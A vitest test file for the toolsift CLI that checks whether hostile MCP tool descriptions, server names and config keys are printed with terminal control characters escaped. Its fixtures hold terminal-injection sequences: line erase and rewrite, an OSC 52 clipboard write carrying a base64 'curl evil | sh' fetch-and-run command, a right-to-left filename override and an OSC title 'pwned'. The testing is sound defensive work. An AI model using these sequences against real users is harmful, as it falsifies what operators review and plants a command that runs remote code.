// Hostile text to the command line: text that came from outside (an upstream's tool
// description, a state file, a config) reaches the terminal with its control characters made
// visible, so `toolsift mcp status` shows the operator what `approve` would approve.
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, describe, expect, it } from "vitest";
import { STATE_FORMAT, STATE_VERSION } from "../src/mcp/quarantine.js";
import { runCli } from "./helpers/cli.js";

const FAULT_SERVER = fileURLToPath(new URL("./mcp/fixtures/fault-server.mjs", import.meta.url));
const folder = mkdtempSync(join(tmpdir(), "toolsift-cli-hostile-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

// What a terminal acts on: C0 controls but newline and tab, DEL, C1 controls (0x9b is a CSI),
// bidi overrides and isolates, zero-width characters and the Unicode line separators.
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;

// Erase the line, move up and rewrite it, ring the bell, set the clipboard (OSC 52), a C1 CSI
// and a right-to-left override: each would make the review show something else.
const HOSTILE = "Reads files\u001b[2K\u001b[1A\r+ Harmless helper\u0007 \u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007 \u009b31mred\u009b0m \u202etxt.exe\u202c\u200b";
const HOSTILE_TOOL = "grab\u001b[8m_hidden";
const HOSTILE_SERVER = "stranger\u009b2K";

function expectNoRawControl(text: string): void {
  const match = RAW_CONTROL.exec(text);
  expect(match === null ? "none" : `U+${match[0].codePointAt(0)!.toString(16).padStart(4, "0")} at ${match.index}`).toBe("none");
}

/** A config whose state file holds one pending tool of a hostile server, with a two-line description. */
function hostileState(): string {
  const run = mkdtempSync(join(folder, "state-"));
  const state = join(run, "state.json");
  const pin = { sha256: "a".repeat(64), description: `${HOSTILE}\nsecond line\tafter a tab`, inputSchema: { type: "object", description: "\u001b[2J" } };
  writeFileSync(state, JSON.stringify({ format: STATE_FORMAT, v: STATE_VERSION, approved: {}, pending: { [HOSTILE_SERVER]: { [HOSTILE_TOOL]: pin } } }));
  const config = join(run, "servers.json");
  writeFileSync(config, JSON.stringify({ mcpServers: {}, toolsift: { state } }));
  return config;
}

describe("visible", () => {
  it("shows control, bidi and zero-width characters as \\u escapes and leaves other text alone", async () => {
    const { visible } = (await import("../src/cli/output.js")) as unknown as { visible: (text: string) => string };
    expect(visible("a\u001b[2Kb\u0007c\u009bd\u202ee\u200bf\u007fg")).toBe("a\\u001b[2Kb\\u0007c\\u009bd\\u202ee\\u200bf\\u007fg");
    expect(visible("line\r\nnext\tcol")).toBe("line\\r\\nnext\\tcol");
    expect(visible("Ünïcödé 搜索 émoji 🙂 back\\slash")).toBe("Ünïcödé 搜索 émoji 🙂 back\\slash");
    expectNoRawControl(visible(Array.from({ length: 0x3000 }, (_, code) => String.fromCharCode(code)).join("")));
  });
});

describe("toolsift mcp: upstream text is printed with its control characters visible", () => {
  it("status shows a hostile pending tool's description escaped, one line per line of it", async () => {
    const run = await runCli(["mcp", "status", "--config", hostileState()]);
    expect(run.code).toBe(0);
    expectNoRawControl(run.stdout);
    expectNoRawControl(run.stderr);
    expect(run.stdout).toContain("stranger\\u009b2K grab\\u001b[8m_hidden  new");
    expect(run.stdout).toContain("\n    + Reads files\\u001b[2K\\u001b[1A\\r+ Harmless helper\\u0007 \\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007 \\u009b31mred\\u009b0m \\u202etxt.exe\\u202c\\u200b\n");
    expect(run.stdout).toContain("\n    + second line\\tafter a tab\n");
  });

  it("status on a terminal keeps its own bold and dim, and only those", async () => {
    const run = await runCli(["mcp", "status", "--config", hostileState()], { tty: true });
    expect(run.stdout).toContain("\u001b[1mstate\u001b[22m");
    expect(run.stdout).toContain(`\u001b[2mnew · sha256 ${"a".repeat(64)}\u001b[22m`);
    expectNoRawControl(run.stdout.replace(/\u001b\[(?:1|2|22)m/g, ""));
  });

  it("status --json stays JSON that parses back to the same names", async () => {
    const run = await runCli(["mcp", "status", "--json", "--config", hostileState()]);
    expectNoRawControl(run.stdout);
    const parsed = JSON.parse(run.stdout) as { quarantined: { server: string; tool: string }[] };
    expect(parsed.quarantined).toEqual([expect.objectContaining({ server: HOSTILE_SERVER, tool: HOSTILE_TOOL })]);
  });

  it("approve, and its error naming the servers of the state file, print the names escaped", async () => {
    const config = hostileState();
    const missing = await runCli(["mcp", "approve", "nobody", "--config", config]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('No server "nobody"');
    expectNoRawControl(missing.stderr);
    // approve without --pin takes what the last status showed.
    expect((await runCli(["mcp", "status", "--config", config])).code).toBe(0);
    const approved = await runCli(["mcp", "approve", HOSTILE_SERVER, "--config", config]);
    expect(approved.code).toBe(0);
    expect(approved.stdout).toBe("approved 1 tool of stranger\\u009b2K: grab\\u001b[8m_hidden\n");
  });

  it("demo --config prints a trusted upstream's description escaped", { timeout: 30_000 }, async () => {
    const run = mkdtempSync(join(folder, "demo-"));
    const config = join(run, "servers.json");
    const env = { FAULT_WEATHER_DESCRIPTION: `Get the weather forecast\u001b[2K\u001b[1A for a city \u009b8m\u202e` };
    writeFileSync(config, JSON.stringify({ mcpServers: { sky: { command: process.execPath, args: [FAULT_SERVER], trust: true, env } }, toolsift: { state: join(run, "state.json") } }));
    const demo = await runCli(["demo", "--config", config, "weather forecast for a city"]);
    expect(demo.code).toBe(0);
    expect(demo.stdout).toContain("sky__weather");
    expect(demo.stdout).toContain("Get the weather forecast\\u001b[2K\\u001b[1A for a city");
    expectNoRawControl(demo.stdout);
    expectNoRawControl(demo.stderr);
  });

  it("an error message carrying outside text is one escaped line", async () => {
    const config = join(folder, "bad-config.json");
    writeFileSync(config, JSON.stringify({ mcpServers: { ok: { command: "x", env: { TOKEN: 42 } } }, toolsift: { "\u001b]0;pwned\u0007": 1 } }));
    const run = await runCli(["mcp", "status", "--config", config]);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/^toolsift: invalid_config: [^\n]+\n$/);
    expectNoRawControl(run.stderr);
  });
});
